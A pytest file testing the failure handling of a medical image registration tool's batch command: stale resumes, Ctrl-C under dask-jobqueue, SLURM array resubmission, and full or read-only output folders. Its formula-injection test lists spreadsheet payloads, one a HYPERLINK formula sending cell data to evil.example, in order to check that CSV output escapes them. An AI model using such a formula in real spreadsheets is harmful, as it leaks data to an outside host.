"""``batch`` keeps its promises when things go wrong: a resume re-registers cases whose inputs
changed, ``summary.csv`` cannot run formulas in a spreadsheet, Ctrl-C under dask-jobqueue is
exit 130 with the summary, cases still running on a cluster after the batch stopped write
nothing into ``--out``, the documented SLURM resubmission runs the right shards, and a full or
read-only output folder is one line with exit 2.
"""

from __future__ import annotations

import csv
import errno
import importlib.util
import io
import json
import logging
import os
import re
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from _batch_helpers import fake_case, make_fake_cases, runs

from biplanar_reg.cases import _cluster, batch
from biplanar_reg.cases._shards import parse_shard
from biplanar_reg.cases.batch import BatchSummary, run_batch, write_summary
from biplanar_reg.cases.outputs import atomic_output_dir
from biplanar_reg.cli import main
from biplanar_reg.io import atomic as atomic_module
from biplanar_reg.simulate import write_synthetic_case

ROOT = Path(__file__).resolve().parents[2]
QUIET = {"progress_stream": io.StringIO(), "report": False}
#: for the stand-in cases of ``_batch_helpers`` (which take no ``report`` argument)
FAKE = {"progress_stream": io.StringIO()}


@pytest.fixture()
def sigint_default():
    """SIGINT raises KeyboardInterrupt during the test (Python's default), and is restored."""
    before = signal.getsignal(signal.SIGINT)
    signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        yield
    finally:
        signal.signal(signal.SIGINT, before)


# ------------------------------------------------------------------- stale resume


def _nudge_landmark(case: Path, du: float) -> None:
    """Move the first landmark of the first view by ``du`` px (an annotation edited)."""
    path = case / "annotations.json"
    doc = json.loads(path.read_text())
    view = next(iter(doc["views"].values()))
    mark = next(iter(view["landmarks"].values()))
    mark["uv"][0] += du
    path.write_text(json.dumps(doc, indent=1))


def test_resume_registers_again_a_case_whose_inputs_changed(tmp_path, caplog):
    cases = [
        write_synthetic_case(
            tmp_path / "cases" / f"c{i}", i, image_size=(192, 192), silhouettes=False
        )
        for i in range(2)
    ]
    out = tmp_path / "out"
    assert run_batch(cases, out, workers=1, **QUIET).counts["done"] == 2
    before = json.loads((out / "c0" / "result.json").read_text())["metrics"]["landmark_rms_px"]
    _nudge_landmark(cases[0], 12.0)
    with caplog.at_level(logging.WARNING, logger="biplanar_reg.cases.batch"):
        s = run_batch(cases, out, workers=1, **QUIET)
    ran = {r["case"]: r["ran"] for r in s.rows}
    assert ran == {"c0": True, "c1": False}, ran  # c0 registered again, c1 skipped
    assert "c0: its inputs changed since its output was written" in caplog.text
    assert "annotations.json changed" in caplog.text
    after = json.loads((out / "c0" / "result.json").read_text())["metrics"]["landmark_rms_px"]
    assert after > before + 1.0  # the result of the edited annotations, not the old one
    # the same content with a new modification time (a copy, a touch) is not a change
    os.utime(cases[1] / "annotations.json", ns=(1, 10**18))
    s = run_batch(cases, out, workers=1, **QUIET)
    assert s.counts["skipped"] == 2
    # an output without an input record (an older version wrote it): kept, with a warning
    (out / "c1" / "inputs.json").unlink()
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="biplanar_reg.cases.batch"):
        s = run_batch(cases, out, workers=1, **QUIET)
    assert s.counts["skipped"] == 2
    assert "1 complete case(s) have no record of their inputs" in caplog.text


# -------------------------------------------------------------- formula injection

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tlead tab",
    "\rlead return",
]


def test_summary_csv_text_cannot_start_a_formula(tmp_path):
    rows = [
        {"case": name, "status": "failed", "reason": name, "seconds": -0.5, "n_flags": 0}
        for name in ATTACKS
    ]
    rows.append({"case": "k-1", "status": "done", "reason": "", "seconds": 1.25, "flags": "-x"})
    rows[-1].update({"surface_signed_mean_mm": -0.031, "n_flags": 1, "certificate": 0.99})
    summary = BatchSummary(rows, 1.0)
    summary.stats = batch._aggregate(rows)
    write_summary(tmp_path, summary)
    table = list(csv.DictReader((tmp_path / "summary.csv").open(newline="")))
    for name, row in zip(ATTACKS, table, strict=False):
        assert row["case"] == "'" + name and row["reason"] == "'" + name
        assert row["seconds"] == "-0.5"  # numbers stay numbers, negative ones too
    last = table[-1]
    assert last["case"] == "k-1" and last["flags"] == "'-x"
    assert last["surface_signed_mean_mm"] == "-0.031" and last["n_flags"] == "1"
    # summary.json keeps the names as they are
    doc = json.loads((tmp_path / "summary.json").read_text())
    assert [r["case"] for r in doc["rows"]][: len(ATTACKS)] == ATTACKS
    for line in (tmp_path / "summary_stats.csv").read_text().splitlines():
        assert not re.match(r"^[=+\-@\t\r]", line)


# ------------------------------------------------------ Ctrl-C under dask-jobqueue


class _NoCluster:
    def close(self) -> None:
        pass


def test_ctrl_c_under_dask_jobqueue_is_exit_130_with_the_summary(
    tmp_path, monkeypatch, capsys, sigint_default
):
    if importlib.util.find_spec("dask_jobqueue") is None:  # (importing it would set SIGINT)
        pytest.skip("dask-jobqueue is not installed")
    for name in [n for n in sys.modules if n == "dask_jobqueue" or n.startswith("dask_jobqueue.")]:
        monkeypatch.delitem(sys.modules, name)  # imported afresh by the batch, as in a new process

    def make_cluster(kind, options=None):
        _cluster.cluster_class(kind)  # what the real one imports
        return _NoCluster()

    def interrupted(jobs, address, extra, on_done):
        os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C while the cases run
        time.sleep(30)

    monkeypatch.setattr(_cluster, "make_cluster", make_cluster)
    monkeypatch.setattr(_cluster, "submit", lambda *a, **k: None)
    monkeypatch.setattr(batch, "_run_dask", interrupted)
    cases = make_fake_cases(tmp_path / "cases", {"a": {}, "b": {}})
    out = tmp_path / "out"
    capsys.readouterr()
    argv = ["batch", *map(str, cases), "--out", str(out), "--cluster", "slurm", "--no-report"]
    assert main(argv) == 130
    printed = capsys.readouterr().out
    assert "0 done (0 skipped), 0 failed, 2 not run, of 2" in printed, printed
    rows = list(csv.DictReader((out / "summary.csv").open()))
    assert [r["status"] for r in rows] == ["not run", "not run"]
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler


# --------------------------------------- cases still running after the batch stopped


def test_cases_running_on_the_cluster_write_nothing_after_an_interrupt(
    tmp_path, monkeypatch, sigint_default
):
    distributed = pytest.importorskip("dask.distributed")
    from biplanar_reg.cases import run as run_module

    started, release, finished = threading.Event(), threading.Event(), threading.Event()
    wrote: list[str] = []

    def slow_case(case_dir, out_dir, **kwargs):  # a long registration on a cluster worker
        started.set()
        release.wait(60)
        try:
            with atomic_output_dir(Path(out_dir)) as tmp:
                (tmp / "result.json").write_text("{}")
                (tmp / "registered.ply").write_text("ply")
            wrote.append(out_dir)
        finally:
            finished.set()

    monkeypatch.setattr(run_module, "run_case_dir", slow_case)
    case = tmp_path / "cases" / "c0"
    case.mkdir(parents=True)
    out = tmp_path / "out"

    def ctrl_c() -> None:
        if started.wait(60):
            os.kill(os.getpid(), signal.SIGINT)

    with distributed.LocalCluster(
        n_workers=1, threads_per_worker=1, processes=False, dashboard_address=None
    ) as cluster:
        threading.Thread(target=ctrl_c, daemon=True).start()
        s = run_batch([case], out, scheduler=cluster.scheduler_address, **QUIET)
        assert s.interrupted and s.rows[0]["status"] == "not run"
        release.set()  # the case goes on after the batch said "not run" ...
        assert finished.wait(60)
    assert wrote == [] and not (out / "c0").exists()  # ... and writes nothing into --out
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []


# -------------------------------------------------------- SLURM array resubmission


def _sbatch_script() -> str:
    text = (ROOT / "docs" / "cases.md").read_text()
    m = re.search(r"```sh\n(#!/bin/bash\n# study\.sbatch.*?)```", text, re.S)
    assert m, "the job-array script of docs/cases.md"
    return m.group(1)


@pytest.mark.parametrize(("array", "task"), [("1-100", 17), ("17,42", 42), ("17,42", 17)])
def test_the_documented_job_array_runs_the_same_shards_when_resubmitted(tmp_path, array, task):
    """``sbatch --array=17,42 study.sbatch`` must run shards 17/100 and 42/100 again, not
    17/2 (SLURM_ARRAY_TASK_COUNT is the size of the new array)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "biplanar-reg").write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    (bin_dir / "biplanar-reg").chmod(0o755)
    ids = [int(x) for x in re.findall(r"\d+", array)]
    ids = list(range(ids[0], ids[1] + 1)) if "-" in array else ids
    env = {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "SLURM_ARRAY_TASK_ID": str(task),
        "SLURM_ARRAY_TASK_COUNT": str(len(ids)),
        "SLURM_ARRAY_TASK_MIN": str(min(ids)),
        "SLURM_ARRAY_TASK_MAX": str(max(ids)),
        "SLURM_CPUS_PER_TASK": "4",
    }
    done = subprocess.run(
        ["bash", "-c", _sbatch_script()], env=env, capture_output=True, text=True, check=True
    )
    args = done.stdout.splitlines()
    assert parse_shard(args[args.index("--shard") + 1]) == (task, 100)


def test_a_shard_of_another_split_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(batch, "process_case", fake_case)
    cases = make_fake_cases(tmp_path / "cases", {"a": {}, "b": {}})
    out = tmp_path / "out"
    out.mkdir()
    doc = {
        "format": "biplanar-reg/batch-summary@1",
        "shard": {"index": 1, "count": 100},
        "study_cases": ["a", "b"],
        "rows": [],
        "started": 0,
        "finished": 1,
    }
    (out / "summary.shard-001-of-100.json").write_text(json.dumps(doc))
    with pytest.raises(ValueError, match="holds the summaries of a split into 100 shards"):
        run_batch(cases, out, shard="1/2", **FAKE)
    assert runs(tmp_path / "cases") == []
    assert run_batch(cases, out, shard="3/100", workers=1, **FAKE).counts["total"] == 0


# ------------------------------------------------ the batch's own output folder


def test_a_live_registration_keeps_its_temporary_folder_during_a_batch(tmp_path, monkeypatch):
    from biplanar_reg.cases.outputs import output_lock

    monkeypatch.setattr(batch, "process_case", fake_case)
    cases = make_fake_cases(tmp_path / "cases", {"a": {}})
    out = tmp_path / "out"
    out.mkdir()
    live = out / ".a.tmp-live"  # a `register --out OUT/a` writing its outputs
    with output_lock(out / "a"):
        live.mkdir()
        run_batch(cases, out, workers=1, **FAKE)
        assert live.is_dir()


def test_permits_of_killed_batches_are_removed_and_live_ones_kept(tmp_path, monkeypatch):
    from biplanar_reg.cases._lock import RunPermit

    monkeypatch.setattr(batch, "process_case", fake_case)
    cases = make_fake_cases(tmp_path / "cases", {"a": {}})
    out = tmp_path / "out"
    out.mkdir()
    stale = out / ".batch.permit-killed1"  # its batch was SIGKILLed
    stale.write_text("")
    live = RunPermit(out)  # a shard's batch running on the same folder
    try:
        run_batch(cases, out, workers=1, **FAKE)
        assert not stale.exists() and live.path.exists()
    finally:
        live.revoke()
    assert not live.path.exists()


def test_a_full_disk_in_the_batch_output_is_one_line_and_exit_2(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(batch, "process_case", fake_case)
    cases = make_fake_cases(tmp_path / "cases", {"a": {}})
    out = tmp_path / "out"

    def full(path):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(atomic_module, "_fsync_path", full)
    capsys.readouterr()
    assert main(["batch", str(cases[0]), "--out", str(out), "--workers", "1"]) == 2
    err = capsys.readouterr().err.strip().splitlines()  # the progress line, then the error
    assert "internal error" not in "".join(err), err
    assert err[-1].startswith(f"error: {out / 'summary.csv'}: No space left on device"), err


@pytest.mark.parametrize("exists", [False, True])
def test_a_read_only_batch_output_is_refused_before_any_case(tmp_path, monkeypatch, capsys, exists):
    monkeypatch.setattr(batch, "process_case", fake_case)
    cases = make_fake_cases(tmp_path / "cases", {"a": {}})
    ro = tmp_path / "ro"
    (ro / "out").mkdir(parents=True) if exists else ro.mkdir()
    real_mkdir, real_open = os.mkdir, os.open

    def refuse(path) -> None:
        if Path(os.fsdecode(path)).absolute().is_relative_to(ro):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), os.fsdecode(path))

    def ro_mkdir(path, *args, **kwargs):
        refuse(path)
        return real_mkdir(path, *args, **kwargs)

    def ro_open(path, flags, *args, **kwargs):
        if flags & (os.O_CREAT | os.O_WRONLY | os.O_RDWR):
            refuse(path)
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "mkdir", ro_mkdir)
    monkeypatch.setattr(os, "open", ro_open)
    capsys.readouterr()
    assert main(["batch", str(cases[0]), "--out", str(ro / "out"), "--workers", "1"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"error: {ro / 'out'}: Read-only file system"), err
    assert runs(tmp_path / "cases") == []
